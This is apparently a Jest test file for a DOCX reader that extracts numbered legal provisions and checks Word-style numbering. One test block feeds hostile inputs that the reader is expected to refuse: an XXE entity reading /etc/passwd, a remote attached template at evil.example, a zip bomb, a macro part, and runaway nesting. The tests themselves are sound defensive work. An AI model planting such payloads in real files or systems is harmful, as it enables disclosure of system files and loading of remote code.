import { readdirSync, readFileSync } from 'node:fs';
import { crc32, deflateRawSync } from 'node:zlib';
import { describe, expect, it } from '@jest/globals';
import { formatted } from './docx.numbering.js';
import { readDocx } from './docx.reader.js';
import { DraftRefusal } from './draft.types.js';

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const RELS = 'http://schemas.openxmlformats.org/package/2006/relationships';

/** A ZIP archive of the given files. */
function zip(files: Readonly<Record<string, string | Buffer>>): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of Object.entries(files)) {
    const [path, bytes] = [Buffer.from(name), Buffer.from(content)];
    const packed = deflateRawSync(bytes);
    const fields = Buffer.alloc(26);
    fields.writeUInt16LE(20, 0);
    fields.writeUInt16LE(8, 4);
    fields.writeUInt32LE(crc32(bytes), 10);
    fields.writeUInt32LE(packed.length, 14);
    fields.writeUInt32LE(bytes.length, 18);
    fields.writeUInt16LE(path.length, 22);
    const local = Buffer.concat([Buffer.from('PK\u0003\u0004'), fields, path, packed]);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(offset, 10);
    central.push(Buffer.concat([Buffer.from('PK\u0001\u0002\u0014\u0000'), fields, tail, path]));
    locals.push(local);
    offset += local.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.write('PK\u0005\u0006', 'latin1');
  end.writeUInt16LE(central.length, 8);
  end.writeUInt16LE(central.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const CONTENT = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
const level = (at: number, format: string, text: string, more = ''): string =>
  `<w:lvl w:ilvl="${at}"><w:start w:val="1"/><w:numFmt w:val="${format}"/>${more}<w:lvlText w:val="${text}"/></w:lvl>`;
const NUMBERING = `<w:numbering ${W}>
<w:abstractNum w:abstractNumId="0">${level(0, 'decimal', '%1', '<w:pStyle w:val="Heading1"/>')}${level(1, 'decimal', '%1.%2', '<w:pStyle w:val="Heading2"/>')}${level(2, 'decimal', '%1.%2.%3')}${level(3, 'lowerLetter', '(%4)')}${level(4, 'lowerRoman', '(%5)')}</w:abstractNum>
<w:abstractNum w:abstractNumId="1">${level(0, 'upperRoman', '%1.')}${level(1, 'decimal', '%1.%2', '<w:isLgl/>')}${level(2, 'decimal', '%3)', '<w:lvlRestart w:val="0"/>')}</w:abstractNum>
<w:abstractNum w:abstractNumId="2">${level(0, 'bullet', '•')}</w:abstractNum>
<w:abstractNum w:abstractNumId="3">${level(0, 'lowerLetter', '(%1)')}</w:abstractNum>
<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num><w:num w:numId="2"><w:abstractNumId w:val="1"/></w:num>
<w:num w:numId="3"><w:abstractNumId w:val="2"/></w:num><w:num w:numId="4"><w:abstractNumId w:val="3"/></w:num>
<w:num w:numId="5"><w:abstractNumId w:val="3"/><w:lvlOverride w:ilvl="0"><w:startOverride w:val="1"/></w:lvlOverride></w:num>
</w:numbering>`;
const STYLES = `<w:styles ${W}><w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/></w:style>
<w:style w:type="paragraph" w:styleId="Heading1"><w:name w:val="heading 1"/><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr><w:outlineLvl w:val="0"/></w:pPr></w:style>
<w:style w:type="paragraph" w:styleId="Heading2"><w:name w:val="heading 2"/><w:basedOn w:val="Heading1"/><w:pPr><w:outlineLvl w:val="1"/></w:pPr></w:style>
<w:style w:type="paragraph" w:styleId="Special"><w:name w:val="Special"/><w:basedOn w:val="Heading2"/></w:style></w:styles>`;

const p = (text: string, properties = ''): string =>
  `<w:p><w:pPr>${properties}</w:pPr>${text.startsWith('<') ? text : `<w:r><w:t xml:space="preserve">${text}</w:t></w:r>`}</w:p>`;
const numbered = (numId: number, at: number): string => `<w:numPr><w:ilvl w:val="${at}"/><w:numId w:val="${numId}"/></w:numPr>`;
const style = (name: string): string => `<w:pStyle w:val="${name}"/>`;
const docx = (body: string, more: Readonly<Record<string, string | Buffer>> = {}): Buffer =>
  zip({
    '[Content_Types].xml': CONTENT,
    'word/document.xml': `<w:document ${W}><w:body>${body}</w:body></w:document>`,
    'word/numbering.xml': NUMBERING,
    'word/styles.xml': STYLES,
    ...more,
  });
const shown = async (body: string): Promise<string[]> => {
  const { provisions } = await readDocx(docx(body));
  return provisions.map(({ number, heading, text }) => `${number ?? '-'} ${heading ?? text}`);
};
const refusal = async (bytes: Buffer): Promise<string> => {
  const outcome = await readDocx(bytes).catch((error: unknown) => error);
  expect(outcome).toBeInstanceOf(DraftRefusal);
  return (outcome as DraftRefusal).message;
};

describe('the reader of DOCX drafts', () => {
  it('shows the numbers that Word shows, and puts each provision in its place', async () => {
    const body = [
      p('Scope', style('Heading1')),
      p('Thresholds', style('Heading1')),
      p('First', style('Heading2')),
      p('alpha', numbered(1, 3)),
      p('one', numbered(1, 4)),
      p('two', numbered(1, 4)),
      p('beta', numbered(1, 3)),
      p('Second', style('Special')),
      p('deep', numbered(1, 2)),
      p('Last', style('Heading1')),
      p('Plain', `${style('Heading1')}<w:numPr><w:numId w:val="0"/></w:numPr><w:outlineLvl w:val="9"/>`),
    ];
    const { provisions } = await readDocx(docx(body.join('')));
    expect(provisions.map(({ eId, parentEId, number, heading, text }) => [number, heading ?? text, eId, parentEId])).toEqual([
      ['1', 'Scope', 'sec_1', null],
      ['2', 'Thresholds', 'sec_2', null],
      ['2.1', 'First', 'sec_2-1', 'sec_2'],
      ['(a)', 'alpha', 'sec_2-1__para_a', 'sec_2-1'],
      ['(i)', 'one', 'sec_2-1__para_a__point_i', 'sec_2-1__para_a'],
      ['(ii)', 'two', 'sec_2-1__para_a__point_ii', 'sec_2-1__para_a'],
      ['(b)', 'beta', 'sec_2-1__para_b', 'sec_2-1'],
      ['2.2', 'Second', 'sec_2-2', 'sec_2'],
      ['2.2.1', 'deep', 'sec_2-2__para_2-2-1', 'sec_2-2'],
      ['3', 'Last', 'sec_3', null],
      [null, 'Plain', 'sec_3__para_1', 'sec_3'],
    ]);
  });

  it('counts as Word does: legal numbers, a start over, a level that never begins anew', async () => {
    const legal = [
      p('A', numbered(2, 0)),
      p('B', numbered(2, 1)),
      p('C', numbered(2, 2)),
      p('D', numbered(2, 0)),
      p('E', numbered(2, 1)),
      p('F', numbered(2, 2)),
    ];
    expect(await shown(legal.join(''))).toEqual(['I. A', '1.1 B', '1) C', 'II. D', '2.1 E', '2) F']);
    const restarted = [
      p('A', numbered(4, 0)),
      p('B', numbered(4, 0)),
      p('Between'),
      p('C', numbered(5, 0)),
      p('D', numbered(5, 0)),
      p('E', numbered(4, 0)),
    ];
    expect(await shown(restarted.join(''))).toEqual(['(a) A', '(b) B', '- Between', '(a) C', '(b) D', '(c) E']);
  });

  it('nests bullets and typed numbers: (i) after (h) is a letter, after (a) a numeral', async () => {
    const { provisions } = await readDocx(
      docx(
        [
          p('It covers:'),
          p('this', numbered(3, 0)),
          p('1. One:'),
          p('(a) x'),
          p('(i) y'),
          p('(ii) z'),
          p('(b) w'),
          p('2. Two'),
        ].join(''),
      ),
    );
    expect(provisions.map(({ eId, number, text }) => [eId, number, text])).toEqual([
      ['para_1', null, 'It covers:'],
      ['para_1__point_1', null, 'this'],
      ['para_1_2', '1.', 'One:'],
      ['para_1_2__point_a', '(a)', 'x'],
      ['para_1_2__point_a__point_i', '(i)', 'y'],
      ['para_1_2__point_a__point_ii', '(ii)', 'z'],
      ['para_1_2__point_b', '(b)', 'w'],
      ['para_2', '2.', 'Two'],
    ]);
    const letters = await readDocx(docx([...'abcdefghij'].map((letter) => p(`(${letter}) x`)).join('')));
    expect(new Set(letters.provisions.map(({ parentEId }) => parentEId))).toEqual(new Set([null]));
  });

  it('reads tracked changes as accepted, and tells of all that it leaves out', async () => {
    const body = [
      p(
        '<w:r><w:t xml:space="preserve">Kept </w:t></w:r><w:ins w:id="1"><w:r><w:t>new</w:t></w:r></w:ins><w:del w:id="2"><w:r><w:delText>old</w:delText></w:r></w:del>',
      ),
      p('<w:r><w:t>Note</w:t><w:footnoteReference w:id="1"/></w:r><w:r><w:commentReference w:id="0"/></w:r>'),
      p('<w:r><w:t>Joined </w:t></w:r>', '<w:rPr><w:del w:id="3"/></w:rPr>'),
      p('<w:r><w:drawing/></w:r><w:r><w:t>with this</w:t></w:r>'),
      p(
        '<w:r><w:pict><w:txbxContent><w:p/></w:txbxContent></w:pict><w:t>Boxed</w:t></w:r><w:r><w:rPr><w:vanish/></w:rPr><w:t>hidden</w:t></w:r>',
      ),
      `<w:tbl><w:tr><w:tc>${p('1.1')}</w:tc><w:tc>${p('Cell')}</w:tc></w:tr></w:tbl>`,
    ];
    const { provisions, warnings } = await readDocx(docx(body.join(''), { 'word/header1.xml': '<a/>' }));
    expect(provisions.map(({ text }) => text)).toEqual(['Kept new', 'Note', 'Joinedwith this', 'Boxed', 'Cell']);
    expect(warnings).toEqual([
      'Page headers and footers left out.',
      'Insertions (tracked changes) were taken as accepted: paragraph 1.',
      'Deleted words (tracked changes) left out: paragraph 1.',
      'Footnotes left out: paragraph 2.',
      'Comments left out: paragraph 2.',
      'Pictures left out: paragraph 4.',
      'Text boxes left out: paragraph 5.',
      'Hidden words left out: paragraph 5.',
      'Tables were read row by row, cells parted by "|": paragraph 6.',
    ]);
  });

  it.each<[string, () => Buffer, RegExp]>([
    ['a macro', () => docx(p('A'), { 'word/vbaProject.bin': 'x' }), /macro \("word\/vbaProject.bin"\)/],
    [
      'a template that lies elsewhere',
      () =>
        docx(p('A'), {
          'word/_rels/settings.xml.rels': `<Relationships xmlns="${RELS}"><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
        }),
      /"word\/_rels\/settings\.xml\.rels" refers to a part outside the file \(attachedTemplate: http:\/\/evil/,
    ],
    ['a zip bomb', () => docx(p('A'), { 'word/styles.xml': Buffer.alloc(30_000_000) }), /"word\/styles.xml" unpacks to more/],
    ['nesting without end', () => docx('<w:sdt>'.repeat(100_000)), /In "word\/document.xml": .*nested more than 250/],
    [
      'an entity',
      () => docx(p('A'), { 'word/styles.xml': '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' }),
      /In "word\/styles.xml": A document type/,
    ],
    ['a workbook', () => zip({ '[Content_Types].xml': CONTENT, 'xl/workbook.xml': '<a/>' }), /workbook/],
    ['another archive', () => zip({ 'a.txt': 'x' }), /not a DOCX/],
    ['a cut-off file', () => docx(p('A')).subarray(0, 500), /cut off/],
    ['no words', () => docx('<w:p/>'), /No provision/],
  ])('refuses %s with place and reason', async (_what, bytes, reason) => expect(await refusal(bytes())).toMatch(reason));

  it('lets links in the text be', async () => {
    const rels = `<Relationships xmlns="${RELS}"><Relationship Id="r" Type="http://x/hyperlink" Target="https://example.org" TargetMode="External"/></Relationships>`;
    const { provisions } = await readDocx(
      docx(p('<w:hyperlink><w:r><w:t>a link</w:t></w:r></w:hyperlink>'), { 'word/_rels/document.xml.rels': rels }),
    );
    expect(provisions[0]?.text).toBe('a link');
  });

  it.each(readdirSync('tests/fixtures/docx').filter((name) => name.endsWith('.docx')))(
    'reads %s as its makers show it',
    async (name) => {
      const { provisions } = await readDocx(readFileSync(`tests/fixtures/docx/${name}`));
      const expected = readFileSync(`tests/fixtures/docx/${name.replace('.docx', '.txt')}`, 'utf8')
        .trim()
        .split('\n');
      expect(provisions.map(({ number, heading, text }) => [number, heading ?? text].filter(Boolean).join(' '))).toEqual(
        expected,
      );
    },
  );
});

describe("Word's formats of numbers", () => {
  it.each([
    [27, 'lowerLetter', 'aa'],
    [28, 'upperLetter', 'BB'],
    [1994, 'upperRoman', 'MCMXCIV'],
    [3, 'arabicAbjad', 'ج'],
    [3, 'arabicAlpha', 'ت'],
    [4, 'russianLower', 'г'],
    [21, 'chineseCounting', '二十一'],
    [10, 'chineseCounting', '十'],
    [7, 'decimalZero', '07'],
    [22, 'ordinal', '22nd'],
    [3, 'aFormatOfTomorrow', '3'],
  ])('%p as %s is %p', (number, format, expected) => expect(formatted(number, format)).toBe(expected));
});
